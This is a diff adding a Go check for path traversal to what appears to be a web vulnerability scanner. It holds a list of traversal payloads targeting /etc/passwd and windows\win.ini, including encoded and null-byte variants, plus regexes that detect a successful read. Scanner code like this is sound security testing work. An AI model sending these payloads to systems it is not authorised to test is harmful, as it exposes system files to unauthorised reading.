@@ -0,0 +1,53 @@
+package checks
+
+import (
+	"context"
+	"regexp"
+
+	"github.com/aanufriev/httpproxy/internal/pkg/models"
+	"github.com/aanufriev/httpproxy/internal/pkg/scanner/interfaces"
+)
+
+var winIniPattern = regexp.MustCompile(`(?i)\[(fonts|extensions)\]|for 16-bit app support`)
+
+var pathTraversalPayloads = []struct {
+	payload string
+	pattern *regexp.Regexp
+}{
+	{"../../../../../../../../etc/passwd", passwdPattern},
+	{"....//....//....//....//....//....//etc/passwd", passwdPattern},
+	{"..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", passwdPattern},
+	{"/etc/passwd", passwdPattern},
+	{"../../../../../../../../etc/passwd\x00", passwdPattern},
+	{`..\..\..\..\..\..\windows\win.ini`, winIniPattern},
+	{`C:\windows\win.ini`, winIniPattern},
+}
+
+type PathTraversal struct{}
+
+func NewPathTraversal() PathTraversal {
+	return PathTraversal{}
+}
+
+func (c PathTraversal) Name() string {
+	return "path_traversal"
+}
+
+func (c PathTraversal) Run(
+	ctx context.Context, point interfaces.InsertionPoint, baseline models.ProbeResult, sender interfaces.Sender,
+) ([]models.Finding, error) {
+	for _, item := range pathTraversalPayloads {
+		result, err := probe(ctx, point, sender, item.payload)
+		if err != nil {
+			return nil, err
+		}
+
+		if evidence, ok := findNew(item.pattern, result, baseline); ok {
+			return []models.Finding{
+				newFinding(c.Name(), point, item.payload, evidence, models.SeverityHigh, models.ConfidenceFirm),
+			}, nil
+		}
+	}
+
+	return nil, nil
+}